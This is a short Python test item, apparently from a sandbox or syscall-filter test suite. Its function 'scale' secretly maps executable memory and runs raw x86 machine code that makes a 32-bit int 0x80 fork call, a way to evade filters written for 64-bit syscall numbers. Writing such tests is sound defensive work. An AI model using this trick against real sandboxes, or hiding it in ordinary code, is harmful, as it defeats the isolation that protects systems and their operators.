# /// row
# tries = "Makes system calls with the numbers of 32-bit x86, which mean other calls to a filter."
# ends = { test_visible = "crashed" }
# incident = true
# only_on = "x86_64"
# ///
import ctypes
import mmap


def scale(x):
    page = mmap.mmap(-1, 4096, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS, prot=7)
    page.write(b"\xb8\x02\x00\x00\x00\xcd\x80\xc3")  # mov eax, 2 (fork); int 0x80; ret
    ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(page)))()
    return x
